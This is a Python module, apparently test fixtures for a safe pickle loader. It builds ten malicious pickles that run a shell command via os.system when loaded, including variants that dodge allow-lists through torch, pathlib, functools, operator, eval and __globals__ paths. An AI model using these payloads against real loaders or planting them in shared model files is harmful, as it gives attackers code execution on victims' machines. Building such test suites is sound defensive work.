"""Pickles that do harm when they are loaded as Python loads them."""

import pickle
import struct


def text(value: str) -> bytes:
    """Return the instructions that push a string."""
    return pickle.BINUNICODE + struct.pack("<I", len(value.encode())) + value.encode()


def data(value: bytes) -> bytes:
    """Return the instructions that push bytes."""
    return pickle.BINBYTES + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    """Return the instructions that push a module's `attribute`, which may have dots (protocol 4)."""
    return text(module) + text(attribute) + pickle.STACK_GLOBAL


def call(function: bytes, *arguments: bytes) -> bytes:
    """Return the instructions that push the result of a function."""
    return function + pickle.MARK + b"".join(arguments) + pickle.TUPLE + pickle.REDUCE


def set_attributes(target: bytes, **values: bytes) -> bytes:
    """Return the instructions that set attributes, of a class for example, and leave the stack empty."""
    pairs = b"".join(text(key) + value + pickle.SETITEM for key, value in values.items())
    return target + pickle.NONE + pickle.EMPTY_DICT + pairs + pickle.TUPLE2 + pickle.BUILD + pickle.POP


def whole(instructions: bytes, protocol: int = 4) -> bytes:
    """Return a complete pickle."""
    return pickle.PROTO + bytes([protocol]) + instructions + pickle.STOP


def attacks(command: str) -> dict[str, tuple[bytes, str]]:
    """Return pickles that run `command` in a shell, each with the name for which it must be refused."""
    system = name("os", "system")
    inner = whole(call(system, text(command)))
    partial = call(name("functools", "partial"), system, text(command))
    method = call(name("operator", "methodcaller"), text("system"), text(command))
    old_style = b"".join([pickle.GLOBAL, b"posix\nsystem\n", pickle.MARK, text(command), pickle.TUPLE])
    instance = b"".join([pickle.MARK, text(command), pickle.INST, b"posix\nsystem\n"])
    python = f"__import__('os').system({command!r})"
    return {
        "os.system": (inner, "os.system"),
        "builtins.eval": (whole(call(name("builtins", "eval"), text(python))), "builtins.eval"),
        "functools.partial": (whole(call(partial)), "functools.partial"),
        "operator": (whole(call(method, name("posixpath", "os"))), "operator.methodcaller"),
        "torch os.system": (whole(call(name("torch", "os.system"), text(command))), "torch.os.system"),
        "torch pickle.loads": (
            whole(call(name("torch", "serialization.pickle.loads"), data(inner))),
            "torch.serialization.pickle.loads",
        ),
        "pathlib os.system": (whole(call(name("pathlib", "os.system"), text(command))), "pathlib.os.system"),
        "allowed class's globals": (
            whole(
                call(name("torch.serialization", "_get_layout.__globals__.__getitem__"), text("os"))
                + pickle.POP
                + call(system, text(command))
            ),
            "torch.serialization._get_layout.__globals__.__getitem__",
        ),
        "GLOBAL of protocol 0": (whole(old_style + pickle.REDUCE, protocol=0), "posix.system"),
        "INST": (whole(instance, protocol=0), "posix.system"),
    }
